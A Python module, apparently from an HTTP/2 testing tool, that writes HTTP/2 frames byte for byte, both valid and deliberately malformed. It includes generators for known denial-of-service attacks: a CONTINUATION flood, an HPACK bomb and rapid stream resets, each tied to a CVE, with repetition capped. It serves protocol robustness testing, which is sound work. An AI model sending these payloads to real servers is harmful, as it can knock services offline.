"""Frames of HTTP/2 written byte for byte, right ones and wrong ones (RFC 9113 §4, §6; RFC 7541).

Nothing is checked: what a well-behaved library refuses to say is the point. Whatever repeats is bounded, so
that a slip in a number cannot make a flood that hurts the sender.
"""

from collections.abc import Iterable
from struct import Struct

from shadow.model import Headers
from shadow.wire.http2_shape import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    USUAL_FRAME_BYTES,
    WINDOW_UPDATE,
)

MAX_REPEATED = 10_000
"""Frames of a flood, and references of a bomb."""
MAX_WINDOW = (1 << 31) - 1
HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = range(1, 5)
MAX_FRAME_SIZE, MAX_HEADER_LIST_SIZE = 5, 6

_pack_head = Struct("!HBBBI").pack
_DEFAULT_WINDOW = 65_535
_ROOMY_WINDOW = 1 << 24


def frame(kind: int, flags: int, stream: int, payload: bytes, *, length: int | None = None) -> bytes:
    """One frame. `length` is what it says of itself, where that is to be a lie; `stream` has 32 bits."""
    stated = len(payload) if length is None else length
    return _pack_head(stated >> 8 & 0xFFFF, stated & 0xFF, kind, flags, stream & 0xFFFF_FFFF) + payload


def opening(settings: Iterable[tuple[int, int]] = ((ENABLE_PUSH, 0),), *, preface: bytes = PREFACE) -> bytes:
    """What a connection begins with: the preface, settings, and windows so wide that no answer waits."""
    roomy = (*settings, (INITIAL_WINDOW_SIZE, _ROOMY_WINDOW))
    return preface + settings_frame(roomy) + window_update(0, _ROOMY_WINDOW - _DEFAULT_WINDOW)


def settings_frame(settings: Iterable[tuple[int, int]] = (), *, flags: int = 0, stream: int = 0) -> bytes:
    """Settings by number, of which any is taken, known or not."""
    payload = b"".join(key.to_bytes(2) + value.to_bytes(4) for key, value in settings)
    return frame(SETTINGS, flags, stream, payload)


def settings_ack() -> bytes:
    return settings_frame(flags=ACK)


def headers(
    stream: int, fields: Headers, *, ends_stream: bool = True, ends_headers: bool = True, spare: bytes = b""
) -> bytes:
    """A HEADERS frame of `fields`; `spare` is put after the block as it is."""
    flags = (END_STREAM if ends_stream else 0) | (END_HEADERS if ends_headers else 0)
    return frame(HEADERS, flags, stream, field_block(fields) + spare)


def continuation(stream: int, block: bytes, *, ends_headers: bool = True) -> bytes:
    return frame(CONTINUATION, END_HEADERS if ends_headers else 0, stream, block)


def split_headers(stream: int, fields: Headers, size: int, *, ends_stream: bool = True) -> bytes:
    """`fields` in HEADERS and as many CONTINUATION frames as pieces of `size` bytes need."""
    block = field_block(fields)
    pieces = [block[at : at + size] for at in range(0, len(block), size)] or [b""]
    first = frame(HEADERS, END_STREAM if ends_stream else 0, stream, pieces[0])
    if len(pieces) == 1:
        return headers(stream, fields, ends_stream=ends_stream)
    last = len(pieces) - 1
    rest = [continuation(stream, piece, ends_headers=at == last) for at, piece in enumerate(pieces) if at]
    return first + b"".join(rest)


def data(stream: int, content: bytes, *, ends_stream: bool = True, pad: int | None = None) -> bytes:
    """A DATA frame, padded by `pad` bytes where that is given; padding may be a lie, see `frame`."""
    flags = END_STREAM if ends_stream else 0
    if pad is None:
        return frame(DATA, flags, stream, content)
    return frame(DATA, flags | PADDED, stream, bytes([pad]) + content + bytes(pad))


def rst_stream(stream: int, code: int = 8) -> bytes:
    """Code 8 is CANCEL."""
    return frame(RST_STREAM, 0, stream, code.to_bytes(4))


def ping(opaque: bytes = b"shadow\0\0", *, is_ack: bool = False) -> bytes:
    return frame(PING, ACK if is_ack else 0, 0, opaque)


def goaway(last_stream: int = 0, code: int = 0, debug: bytes = b"") -> bytes:
    return frame(GOAWAY, 0, 0, last_stream.to_bytes(4) + code.to_bytes(4) + debug)


def window_update(stream: int, increment: int) -> bytes:
    """`increment` may be 0, which is an error, and have the reserved bit (RFC 9113 §6.9)."""
    return frame(WINDOW_UPDATE, 0, stream, (increment & 0xFFFF_FFFF).to_bytes(4))


def window_overflow(stream: int) -> bytes:
    """Two updates of which the second takes the window beyond its limit (RFC 9113 §6.9.1)."""
    return window_update(stream, MAX_WINDOW) + window_update(stream, MAX_WINDOW)


def priority(stream: int, depends_on: int = 0, weight: int = 15) -> bytes:
    """A stream that depends on itself is an error of the stream (RFC 7540 §5.3.1)."""
    return frame(PRIORITY, 0, stream, depends_on.to_bytes(4) + bytes([weight]))


def push_promise(stream: int, promised: int, fields: Headers) -> bytes:
    """A client must not send one (RFC 9113 §8.4)."""
    return frame(PUSH_PROMISE, END_HEADERS, stream, promised.to_bytes(4) + field_block(fields))


def continuation_flood(stream: int, fields: Headers, count: int, block: bytes = b"") -> bytes:
    """A field block that goes on for `count` frames and does not end (CVE-2024-27316 and its kin)."""
    start = headers(stream, fields, ends_headers=False)
    return start + continuation(stream, block, ends_headers=False) * min(count, MAX_REPEATED)


def hpack_bomb(stream: int, fields: Headers, *, value_bytes: int = 4000, references: int = 4000) -> bytes:
    """One long entry for the table, then one byte for each time it is meant again (CVE-2016-6581)."""
    value = b"a" * min(value_bytes, USUAL_FRAME_BYTES - 256)
    entry = b"\x40" + _text(b"shadow-bomb") + _text(value)
    again = indexed(62) * min(references, MAX_REPEATED)
    block = field_block(fields) + entry + again
    first, rest = block[:USUAL_FRAME_BYTES], block[USUAL_FRAME_BYTES:]
    start = frame(HEADERS, END_STREAM | (0 if rest else END_HEADERS), stream, first)
    return start + (continuation(stream, rest) if rest else b"")


def rapid_resets(first_stream: int, fields: Headers, count: int) -> bytes:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    numbers = range(first_stream, first_stream + 2 * min(count, MAX_REPEATED), 2)
    block = field_block(fields)
    return b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, number, block) + rst_stream(number) for number in numbers
    )


def field_block(fields: Headers) -> bytes:
    """Every field as a literal that no table takes: names and values exactly as given, any bytes."""
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields)


def table_size_update(size: int) -> bytes:
    """Stands at the beginning of a block; more than the peer allows is an error (RFC 7541 §6.3)."""
    return integer(size, 5, 0x20)


def indexed(index: int) -> bytes:
    """A reference to an entry; 0, and what no table has, is an error (RFC 7541 §6.1)."""
    return integer(index, 7, 0x80)


def integer(value: int, bits: int, first: int) -> bytes:
    """`value` in so many bits of the byte `first`, and in what follows it (RFC 7541 §5.1)."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytearray([first | limit]), value - limit
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _text(text: bytes) -> bytes:
    return integer(len(text), 7, 0) + text
